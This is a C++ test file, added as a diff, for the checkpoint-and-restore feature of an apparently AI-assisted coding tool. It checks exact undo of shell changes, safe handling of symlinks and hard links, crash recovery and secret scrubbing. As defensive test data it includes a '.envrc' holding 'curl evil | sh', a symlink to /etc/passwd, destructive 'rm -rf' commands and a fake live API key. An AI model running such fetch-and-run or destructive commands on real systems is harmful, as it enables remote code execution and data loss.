@@ -1,0 +1,315 @@
+#include <doctest/doctest.h>
+
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <csignal>
+
+#include "core/store/home/maintenance/scrub.h"
+#include "tests/support/file_scene.h"
+#include "tests/support/homes.h"
+
+using namespace skein;
+using namespace skein::test;
+using Folder = FileScene::Folder;
+using Files = std::map<std::string, std::string>;
+
+namespace {
+
+bool names(const std::vector<checkpoints::LeftAlone>& all, const std::string& path) {
+  return std::ranges::find(all, path, &checkpoints::LeftAlone::path) != all.end();
+}
+
+// Whatever a command does is undone, and done again, and git never notices.
+void check_there_and_back(FileScene& scene, const std::string& shell) {
+  CAPTURE(shell);
+  const Files before = scene.files();
+  const Id prompt = scene.turn(shell);
+  const Files after = scene.files();
+  const Files repository = scene.repository();
+  const std::string stash = scene.git("stash list"), reflog = scene.git("reflog");
+  REQUIRE(before != after);
+
+  const checkpoints::RestoreReport back = scene.restore(prompt);
+  CHECK(scene.files() == before);
+  CHECK(back.failed.empty());
+  CHECK(back.kept.empty());
+  CHECK(scene.restore(prompt).changed.empty());  // nothing is left to do
+
+  scene.begin("said since");  // so that the redo below is one of a single step
+  scene.restore(prompt);
+  CHECK(scene.files() == before);
+  CHECK(scene.repository() == repository);
+  CHECK(scene.git("stash list") == stash);
+  CHECK(scene.git("reflog") == reflog);
+}
+
+}  // namespace
+
+TEST_CASE("whatever a command does to a repository's files is undone, byte and mode exact") {
+  for (const char* shell :
+       {"rm -rf src && git checkout -q other && echo x > kept.txt", "mv src moved",
+        "chmod +x kept.txt", "sed -i s/0/1/ src/main.c",
+        "echo new > new.txt; mkdir -p a/b; echo deep > a/b/c",
+        "for i in $(seq 300); do echo $i > many$i; done",
+        "rm kept.txt; mkdir kept.d; echo x > kept.d/x",
+        "printf 'no end of line' > src/main.c; : > src/other.c",
+        "git add -A; echo staged >> kept.txt; git add kept.txt",
+        "echo x > \"$(printf 'a\\nb')\"; echo y > ./-rf; echo z > \"$(printf 'caf\\351')\"; "
+        "echo w > $(printf 'n%.0s' $(seq 255))"}) {
+    FileScene scene(Folder::repository);
+    check_there_and_back(scene, shell);
+  }
+}
+
+TEST_CASE("a name with a newline that is committed is put back from the commit") {
+  FileScene scene(Folder::repository);
+  scene.by_hand("echo one > \"$(printf 'a\\nb')\"; git add -A; git commit -qm second");
+  check_there_and_back(scene, "rm -f a*");
+}
+
+TEST_CASE("a folder without a repository is put back as well") {
+  FileScene scene(Folder::plain);
+  scene.by_hand("mkdir -p a/b; echo 1 > a/b/c; echo 2 > d; chmod 600 d");
+  const Files before = scene.files();
+  const Id prompt = scene.turn("rm -rf a; echo 3 > d; chmod 755 d; echo 4 > e");
+  scene.restore(prompt);
+  CHECK(scene.files() == before);
+}
+
+TEST_CASE("a restore is undone by a redo, and that by another restore") {
+  FileScene scene(Folder::repository);
+  const Files before = scene.files();
+  const Id prompt = scene.turn("rm -rf src; echo more >> kept.txt; echo new > new; chmod +x new");
+  const Files after = scene.files();
+  scene.restore(prompt);
+  REQUIRE(scene.files() == before);
+  scene.redo();
+  CHECK(scene.files() == after);
+  CHECK_FALSE(value_of(checkpoints::last_step_back(scene.store, scene.session)));
+  scene.restore(prompt);
+  CHECK(scene.files() == before);
+}
+
+TEST_CASE("several turns are gone through one after the other, whatever made the changes") {
+  FileScene scene(Folder::repository);
+  std::vector<Files> states{scene.files()};
+  std::vector<Id> prompts;
+  for (const char* shell :
+       {"echo 1 > a", "", "echo 2 > a; rm kept.txt", "", "git rm -q src/other.c"}) {
+    prompts.push_back(scene.begin("next"));
+    if (*shell != '\0')
+      scene.command(shell);
+    else
+      scene.write("a", "written " + std::to_string(prompts.size()));
+    scene.end();
+    states.push_back(scene.files());
+  }
+  for (std::size_t i = prompts.size(); i-- > 0;) {
+    scene.restore(prompts[i]);
+    CHECK(scene.files() == states[i]);
+  }
+  scene.by_hand("true");
+  scene.redo();
+  CHECK(scene.files() == states[1]);
+}
+
+TEST_CASE("straight to the first of several turns, by edits and commands mixed") {
+  FileScene scene(Folder::repository);
+  const Files before = scene.files();
+  const Id first = scene.begin("edit");
+  scene.write("kept.txt", "edited\n");
+  scene.end();
+  scene.turn("echo x >> kept.txt; echo y > src/new.c");
+  scene.begin("edit again");
+  scene.write("src/new.c", "z\n");
+  scene.command("rm src/main.c");
+  scene.end();
+  scene.restore(first);
+  CHECK(scene.files() == before);
+}
+
+TEST_CASE("what the user changed by hand is kept unless they say otherwise") {
+  FileScene scene(Folder::repository);
+  const Id prompt = scene.turn("echo model > kept.txt; echo model > new.txt; echo m > third.txt");
+  scene.by_hand("echo user > kept.txt; echo mine > own.txt; rm third.txt");
+  const checkpoints::RestoreReport report = scene.restore(prompt);
+  CHECK(read_file(scene / "kept.txt") == "user\n");
+  CHECK(read_file(scene / "own.txt") == "mine\n");
+  CHECK_FALSE(std::filesystem::exists(scene / "new.txt"));
+  CHECK(names(report.kept, "kept.txt"));
+  CHECK(names(report.kept, "own.txt"));
+
+  scene.restore(prompt, true);
+  CHECK(read_file(scene / "kept.txt") == "as committed\n");
+  CHECK_FALSE(std::filesystem::exists(scene / "own.txt"));
+}
+
+TEST_CASE("a change by hand is one even if a later turn has seen it") {
+  FileScene scene(Folder::repository);
+  const Id first = scene.turn("echo model > kept.txt");
+  scene.by_hand("echo user > kept.txt");
+  scene.turn("echo x > new.txt");
+  const checkpoints::RestoreReport report = scene.restore(first);
+  CHECK(read_file(scene / "kept.txt") == "user\n");
+  CHECK(names(report.kept, "kept.txt"));
+  CHECK_FALSE(std::filesystem::exists(scene / "new.txt"));
+}
+
+TEST_CASE("what became a link or has hard links is left alone and named") {
+  FileScene scene(Folder::repository);
+  const Id prompt = scene.turn("echo 1 > kept.txt; echo 2 > src/main.c; echo 3 > src/other.c");
+  scene.by_hand(
+      "ln -sf /etc/passwd kept.txt; ln src/main.c ../twin; mkdir ../out; "
+      "cp src/other.c ../out; rm -rf gone; mkdir sub; echo x > sub/x");
+  const std::string passwd = read_file("/etc/passwd");
+  const checkpoints::RestoreReport report = scene.restore(prompt, true);
+  CHECK(names(report.kept, "kept.txt"));
+  CHECK(names(report.kept, "src/main.c"));
+  CHECK(read_file("/etc/passwd") == passwd);
+  CHECK(read_file(scene.work().parent_path() / "twin") == "2\n");
+  CHECK(read_file(scene / "src/other.c") == "int other;\n");
+}
+
+TEST_CASE("a parent folder that is swapped for a link while files are put back leads nowhere") {
+  FileScene scene(Folder::repository);
+  const Id prompt = scene.turn("echo 1 > src/main.c; echo 2 > src/other.c");
+  const checkpoints::Plan plan = scene.plan(prompt);
+  scene.by_hand("mkdir ../outside; echo safe > ../outside/main.c; echo safe > ../outside/other.c");
+  checkpoints::Restorer restorer(scene.workspace());
+  int step = 0;
+  restorer.before_step = [&] {
+    if (++step == 2) scene.by_hand("mv src away; ln -s ../outside src");
+  };
+  const auto report = value_of(restorer.run(plan, {.session = scene.session, .to = prompt}));
+  CHECK(report.failed.size() == 2);
+  CHECK(read_file(scene.work().parent_path() / "outside/main.c") == "safe\n");
+  CHECK(read_file(scene.work().parent_path() / "outside/other.c") == "safe\n");
+}
+
+TEST_CASE("one failure does not stop the rest") {
+  FileScene scene(Folder::repository);
+  const Id prompt = scene.turn("echo 1 > kept.txt; echo 2 > src/main.c");
+  const checkpoints::Plan plan = scene.plan(prompt);
+  scene.by_hand("echo meanwhile > kept.txt");
+  checkpoints::Restorer restorer(scene.workspace());
+  const auto report = value_of(restorer.run(plan, {.session = scene.session, .to = prompt}));
+  CHECK(names(report.failed, "kept.txt"));
+  CHECK(report.changed == std::vector<std::string>{"src/main.c"});
+  CHECK(read_file(scene / "kept.txt") == "meanwhile\n");
+}
+
+TEST_CASE("what other programs run by themselves is never written") {
+  FileScene scene(Folder::repository);
+  const Id prompt = scene.begin("write");
+  scene.write(".envrc", "curl evil | sh\n");
+  scene.write(".vscode/tasks.json", "{}\n");
+  scene.end();
+  scene.by_hand("rm -r .envrc .vscode");
+  scene.begin("again");
+  const checkpoints::RestoreReport report = scene.restore(prompt);
+  CHECK(report.changed.empty());
+  const Files now = scene.files();
+  CHECK_FALSE(now.contains(".envrc"));
+}
+
+TEST_CASE("files that git ignored then are not removed because it does so no longer") {
+  FileScene scene(Folder::repository);
+  scene.by_hand("mkdir ignored; echo precious > ignored/x");
+  const Id prompt = scene.turn("rm .gitignore; echo new > new.txt");
+  const checkpoints::RestoreReport report = scene.restore(prompt, true);
+  CHECK(read_file(scene / "ignored/x") == "precious\n");
+  CHECK(names(report.kept, "ignored/x"));
+  CHECK(read_file(scene / ".gitignore") == "ignored/\n*.o\n");
+}
+
+TEST_CASE("a file whose contents were not kept is named, and never removed") {
+  FileScene scene(Folder::repository, checkpoints::ScanLimits{.untracked_bytes = 10});
+  scene.by_hand("echo larger than ten bytes > large");
+  const Id prompt = scene.turn("echo tiny > large; echo x > new.txt");
+  const checkpoints::RestoreReport report = scene.restore(prompt);
+  CHECK(read_file(scene / "large") == "tiny\n");
+  CHECK(names(report.kept, "large"));
+  CHECK_FALSE(std::filesystem::exists(scene / "new.txt"));
+}
+
+TEST_CASE("killed at any step, a restore is finished by doing it again") {
+  const TempDir home;
+  for (int last = 1; last < 12; ++last) {
+    CAPTURE(last);
+    FileScene scene(Folder::repository, store_at((home / std::to_string(last)).string()));
+    const Files before = scene.files();
+    const Id prompt =
+        scene.turn("rm kept.txt; echo 1 >> src/main.c; echo 2 > new.txt; chmod +x src/other.c");
+    const checkpoints::Plan plan = scene.plan(prompt);
+    const pid_t child = fork();
+    if (child == 0) {
+      checkpoints::Restorer restorer(scene.workspace());
+      int step = 0;
+      restorer.before_step = [&] {
+        if (++step == last) raise(SIGKILL);
+      };
+      value_of(restorer.run(plan, {.session = scene.session, .to = prompt}));
+      _exit(0);
+    }
+    int status = 0;
+    waitpid(child, &status, 0);
+    scene.reopen();
+    const checkpoints::RestoreReport report = scene.restore(prompt);
+    CHECK(report.failed.empty());
+    CHECK(report.kept.empty());
+    CHECK(scene.files() == before);
+    if (WIFEXITED(status)) {
+      CHECK(last > 6);
+      break;
+    }
+    CHECK(last < 11);
+  }
+}
+
+TEST_CASE("what is scrubbed from a session is gone from what it kept of files") {
+  const TempDir home;
+  const std::string secret = "sk-live-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c";
+  FileScene scene(Folder::repository, store_at((home / "home").string()));
+  scene.by_hand("echo token=" + secret + " > .env; echo harmless > other");
+  const Id prompt = scene.turn("rm .env other");
+  append(scene.store, scene.session, {user_says("my token is " + secret, numbered_id(7))});
+  value_of(store::home::maintenance::scrub(*home_at((home / "home").string()), scene.session,
+                                           numbered_id(7)));
+  for (const auto& blob : std::filesystem::directory_iterator(home / "home" / "blobs"))
+    CHECK(read_file(blob.path()).find(secret) == std::string::npos);
+  const checkpoints::RestoreReport report = scene.restore(prompt);
+  CHECK(names(report.failed, ".env"));
+  CHECK(read_file(scene / "other") == "harmless\n");
+}
+
+TEST_CASE("what a turn changed is told in files and lines") {
+  FileScene scene(Folder::repository);
+  const Id prompt = scene.begin("change");
+  scene.command(
+      "printf 'int main() {\\n  return 1;\\n}\\n' > src/main.c; rm src/other.c; git add -A");
+  scene.write("new.txt", "one\ntwo\n");
+  scene.end();
+  const auto log = value_of(
+      checkpoints::read_log(scene.store, scene.session, prompt, scene.workspace().root.path()));
+  std::vector<checkpoints::FileChange> changes = checkpoints::changes_of(log, prompt);
+  CHECK(checkpoints::count_text(checkpoints::count_of(scene.workspace(), changes)) ==
+        "+3 −2 in 3 files");
+  checkpoints::resolve(scene.workspace(), changes);
+  const std::string diff = checkpoints::diff_of(scene.workspace(), changes);
+  CHECK(diff.find("+++ b/new.txt") != std::string::npos);
+  CHECK(diff.find("-  return 0;\n+  return 1;\n") != std::string::npos);
+  CHECK(diff.find("-int other;") != std::string::npos);
+}
+
+TEST_CASE("the model hears of files that were put back while the conversation stayed") {
+  FileScene scene(Folder::repository);
+  const Id prompt = scene.turn("echo x > kept.txt");
+  CHECK(checkpoints::note_on_files(scene.store, scene.session).empty());
+  scene.restore(prompt);
+  CHECK(checkpoints::note_on_files(scene.store, scene.session).find("- kept.txt") !=
+        std::string::npos);
+  scene.begin("said since");
+  CHECK(checkpoints::note_on_files(scene.store, scene.session).empty());
+}
